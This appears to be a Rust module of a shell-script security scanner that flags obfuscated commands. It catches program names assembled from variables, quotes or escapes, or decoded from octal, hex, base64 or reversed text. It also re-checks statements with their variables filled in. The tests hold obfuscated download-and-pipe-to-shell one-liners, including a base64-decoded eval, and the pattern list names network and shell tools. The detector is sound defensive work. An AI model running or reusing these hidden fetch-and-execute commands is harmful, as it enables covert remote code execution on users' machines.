//! Commands put together to hide them: a program name whose letters come from several
//! pieces (`a=cu; b=rl; $a$b`, `${x}${y}`, `c"u"rl`, `cu\rl`) or from decoding
//! (`$(printf '\143\165\162\154')`, `$'\x63…'`, `$(echo lruc | rev)`,
//! `$(echo Y3VybA== | base64 -d)`) is high, and a statement that only shows what it does once
//! its variables are filled in (`a=curl; $a http://x | sh`) is judged by the pattern table as
//! filled in. A variable that holds a whole program name (`PY=python3; $PY x.py`) is not a
//! piece: it hides nothing a reader cannot see.

use std::sync::LazyLock;

use regex::Regex;

use crate::finding::{Finding, Rule, Severity};
use crate::rules::shell::Statement;
use crate::rules::{TextFile, ascii_regex, finding_at, pattern_verdicts};
use crate::text::{LineIndex, excerpt};

/// Programs worth hiding: downloaders, shells and interpreters, decoders, network tools,
/// and what destroys or persists.
static PROGRAM: LazyLock<Option<Regex>> = LazyLock::new(|| {
    ascii_regex(
        r"\b(?:curl|wget|bash|sh|zsh|dash|ksh|nc|ncat|netcat|socat|telnet|python[0-9.]*|perl|ruby|node|php|pwsh|powershell|iex|eval|exec|source|base64|xxd|openssl|chmod|rm|mkfifo|crontab|sudo|ssh|scp)\b",
    )
});

/// The rules whose patterns are tried again on a statement with its variables filled in.
const COMMAND_RULES: [Rule; 5] = [
    Rule::PipeToShell,
    Rule::DecodeAndRun,
    Rule::ObfuscatedCommand,
    Rule::ReverseShell,
    Rule::SecretExfiltration,
];

/// The check over one file's statements, in order.
#[derive(Default)]
pub(crate) struct Assembled {
    found: usize,
}

impl Assembled {
    /// Reports `statement` if it hides a command (at most `cap` findings a file).
    pub(crate) fn statement(
        &mut self,
        file: &TextFile<'_>,
        statement: &Statement,
        index: &mut Option<LineIndex>,
        (cap, out): (usize, &mut Vec<Finding>),
    ) {
        let Some(program) = PROGRAM.as_ref() else {
            return;
        };
        if self.found >= cap {
            return;
        }
        let finding = if let Some((start, name)) = assembled_program(statement, program) {
            (
                start,
                Rule::ObfuscatedCommand,
                Severity::High,
                format!(
                    "`{name}` is put together from pieces (variables, quotes, escapes or decoded text), which only hides it: `{}` runs `{}`",
                    excerpt(&statement.raw, 60),
                    excerpt(&statement.expanded(), 80)
                ),
            )
        } else if let Some((rule, severity, message)) = hidden_by_variables(statement) {
            (
                statement.start,
                rule,
                severity,
                format!(
                    "with its variables filled in, `{}` is `{}`: {message}",
                    excerpt(&statement.raw, 60),
                    excerpt(&statement.expanded(), 80)
                ),
            )
        } else {
            return;
        };
        let (start, rule, severity, message) = finding;
        self.found += 1;
        let index = index.get_or_insert_with(|| LineIndex::new(file.bytes));
        let end = start + statement.raw.len().min(file.bytes.len() - start);
        out.push(finding_at(
            file.path,
            file.bytes,
            index,
            (start, end),
            (rule, severity),
            message,
        ));
    }
}

/// The first program name of `statement` that was put together, with where its word starts.
fn assembled_program(statement: &Statement, program: &Regex) -> Option<(usize, String)> {
    statement.words().find_map(|word| {
        // One literal piece is what it says.
        if word.pieces.len() < 2 && !word.pieces.iter().any(|p| p.decoded) {
            return None;
        }
        let text = word.text();
        program
            .find_iter(&text)
            .find(|m| word.assembled(m.range()))
            .map(|m| (word.start, m.as_str().to_owned()))
    })
}

/// A command pattern that matches the statement with its variables filled in and not as
/// written: the worst such verdict.
fn hidden_by_variables(statement: &Statement) -> Option<(Rule, Severity, String)> {
    if !statement.filled {
        return None;
    }
    let after = pattern_verdicts(&statement.expanded(), &COMMAND_RULES);
    if after.is_empty() {
        return None;
    }
    let before = pattern_verdicts(&statement.raw, &COMMAND_RULES);
    after
        .into_iter()
        .filter(|(rule, _, _)| !before.iter().any(|(r, _, _)| r == rule))
        .max_by_key(|(_, severity, _)| *severity)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(Rule, Severity, u32)> {
        crate::rules::shell_findings(text)
            .iter()
            .filter(|f| {
                f.rule != Rule::PipeToShell || !f.message.starts_with("a download is saved")
            })
            .map(|f| (f.rule, f.severity, f.line.unwrap_or(0)))
            .collect()
    }

    #[test]
    fn assembled_names_are_high_and_aliases_are_not() {
        for text in [
            "a=cu; b=rl; $a$b -s http://x/p | sh",
            "x=cur\ny=l\n${x}${y} http://x | bash",
            "c\"u\"rl http://x | sh",
            "X=$'\\x63\\x75\\x72\\x6c'; $X http://x | sh",
            "$(printf '\\143\\165\\162\\154') http://x | sh",
            "cmd=$(echo 'lruc' | rev); $cmd http://x | sh",
            "eval \"$(echo Y3VybA== | base64 -d) http://x | sh\"",
        ] {
            let got = found(text);
            assert!(
                got.iter()
                    .any(|(r, s, _)| *r == Rule::ObfuscatedCommand && *s == Severity::High),
                "{text}: {got:?}"
            );
        }
        for text in [
            "PY=python3\n$PY script.py",
            "CURL=\"curl -fsSL\"; $CURL https://example.com/data.json -o data.json",
            "\"$HOME/.venv/bin/python\" -m pip install x",
            "echo \"Don't run bash as root\"",
            "\\curl -s https://example.com/api",
        ] {
            assert!(found(text).is_empty(), "{text}: {:?}", found(text));
        }
    }

    #[test]
    fn a_download_hidden_in_a_variable_is_judged_filled_in() {
        assert_eq!(
            found("u=http://203.0.113.5/p; c=curl\n$c $u | sh"),
            [(Rule::PipeToShell, Severity::High, 2)]
        );
    }
}
